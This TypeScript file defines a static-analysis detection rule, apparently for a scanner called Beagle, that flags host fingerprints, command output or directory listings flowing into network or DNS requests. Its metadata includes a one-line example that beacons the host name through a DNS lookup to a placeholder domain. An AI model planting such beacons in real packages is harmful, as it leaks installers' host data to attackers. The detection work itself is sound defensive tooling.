import type { JsRule } from '../engine.js';
import { flowEvidence, onSinks } from './flow-common.js';
import { js } from './helpers.js';

/** Data flow: host fingerprints, command output or directory listings reach the network. */
export const reconBeacon: JsRule = {
  meta: {
    ...js,
    id: 'JS-011',
    name: 'host-data-exfiltration-flow',
    category: 'exfiltration',
    severity: 'high',
    confidence: 'medium',
    description:
      'Host fingerprints (hostname, username, network interfaces, home/working directory), command output or directory listings flow into a network request or DNS query.',
    rationale:
      'Dependency-confusion and recon payloads beacon who installed them and where, often encoding the data into DNS labels; Beagle follows the values from os.* calls and child processes to the request.',
    falsePositives:
      'Telemetry and APM agents that report the host name to their own backend; crash reporters.',
    example: "dns.lookup(os.hostname() + '.x.invalid', () => {})",
    references: ['https://medium.com/@alex.birsan/dependency-confusion-4a5d60fec610'],
  },
  create(ctx) {
    return onSinks(
      ctx,
      ['fingerprint', 'command-output', 'file'],
      ['network', 'dns'],
      (node, sink, sources) => {
        const strong = sources.filter((s) => s.kind !== 'file');
        // Uploading an ordinary file is what HTTP clients do; only listings and host data count.
        if (strong.length === 0 && !sources.some((s) => s.what.startsWith('listing'))) return;
        ctx.facts.capabilities.add('recon-exfiltration');
        ctx.report({
          node,
          message: `Sends host data (${sources.map((s) => s.what).join(', ')}) out through ${sink.callee}${sink.kind === 'dns' ? ', encoded in DNS names' : ''}.`,
          severity: sink.kind === 'dns' || sources.length >= 2 ? 'high' : 'medium',
          evidence: flowEvidence(ctx, node, sink, sources),
        });
      },
    );
  },
};
